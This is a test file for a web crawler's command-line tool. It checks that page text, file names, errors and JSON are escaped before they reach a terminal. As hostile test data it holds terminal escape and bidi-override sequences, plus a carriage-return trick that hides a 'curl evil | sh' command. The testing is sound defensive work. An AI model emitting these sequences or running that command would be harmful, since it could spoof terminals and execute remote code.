// What is printed: a page, a server, a file name or an error may hold anything, and a terminal obeys none of it.
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { text } from 'node:stream/consumers'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { print, printText, say, screenOf } from '../../project/src/output/people.ts'
import { printableJson, writeRecords } from '../../project/src/output/machines.ts'
import { runCli } from './run-cli.ts'

/** Clears the screen in C0 and C1, sets the title, hides text, reorders, ends lines, and cannot be seen. */
const EVIL = '\u001b[2J\u009b2J\u001b]0;pwned\u0007\u001b[8mhidden\u202egnp.exe\u2066\u2028\u0085\u200b\u{e0041}\u007f'
// eslint-disable-next-line no-control-regex
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|\udb40/

let folder: string

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'avocet-printed-'))
})
afterEach(() => rm(folder, { recursive: true }))

async function written(work: (stream: PassThrough) => unknown): Promise<string> {
  const stream = new PassThrough()
  await work(stream)
  stream.end()
  return text(stream)
}

describe('what is written for people', () => {
  it('obeys colours of ours, and nothing else that is in a line', async () => {
    expect(await written((stream) => say(stream, `\u001b[31mbad\u001b[39m: ${EVIL}`))).toBe(
      '\u001b[31mbad\u001b[39m: \\u{1b}[2J\\u{9b}2J\\u{1b}]0;pwned\\u{7}\\u{1b}[8mhidden\\u{202e}gnp.exe\\u{2066}\\u{2028}\\u{85}\\u{200b}\\u{e0041}\\u{7f}\n',
    )
    expect(await written((stream) => print(stream, ['a', `b\r\nc: forged`]))).toBe('a\nb\\u{d}\\u{a}c: forged\n')
  })

  it('keeps the lines and tabs of a page, and shows a carriage return that would overwrite its line', async () => {
    expect(await written((stream) => printText(stream, 'a\tb\r\nharmless\rcurl evil | sh'))).toBe(
      'a\tb\nharmless\\u{d}curl evil | sh\n',
    )
  })

  it('is the same for what code prints in the shell', async () => {
    const shown = await written((stream) => screenOf(stream).write(`one\n${EVIL}\n`))
    expect(shown).toMatch(/^one\n.*hidden.*\n$/)
    expect(shown).not.toMatch(RAW)
  })
})

describe('what is written for machines', () => {
  it('is the same JSON, in which a terminal finds nothing to obey', async () => {
    const json = JSON.stringify({ [EVIL]: [EVIL, 'plain ünïcode 日本 👍'] })
    expect(printableJson(json)).not.toMatch(RAW)
    expect(printableJson(json)).toContain('plain ünïcode 日本 👍')
    expect(JSON.parse(printableJson(json))).toEqual(JSON.parse(json))
    expect(await written((stream) => writeRecords(stream, [json, '1']))).toBe(`${printableJson(json)}\n1\n`)
  })
})

describe('avocet parse', () => {
  it('prints no control character of a page, whatever it hides in', async () => {
    await writeFile(
      join(folder, 'spider.ts'),
      `export default { name: 'x', seeds: ['http://a.example/'], handlers: {
         *start(page) { yield { [page.body]: page.body } },
         *bad(page) { throw new Error(page.body) } } }`,
    )
    await writeFile(join(folder, 'page.txt'), EVIL)

    for (const words of [['start'], ['start', '--json'], ['bad']]) {
      const [handler = '', ...rest] = words
      const run = await runCli(['parse', 'page.txt', '--spider', 'spider.ts', '--handler', handler, ...rest], { folder })
      expect(run.stdout + run.stderr).toContain('hidden')
      expect(run.stdout + run.stderr).not.toMatch(RAW)
    }
  })
})

describe('errors', () => {
  it('show the name of a file, and of a folder, without obeying it', async () => {
    for (const words of [
      ['crawl', `${EVIL}.ts`],
      ['status', EVIL],
      ['fetch', `http://${EVIL}/`],
      ['help', EVIL],
    ]) {
      const run = await runCli(words, { folder })
      expect(run.stderr).toContain('hidden')
      expect(run.stdout + run.stderr).not.toMatch(RAW)
    }
  })
})
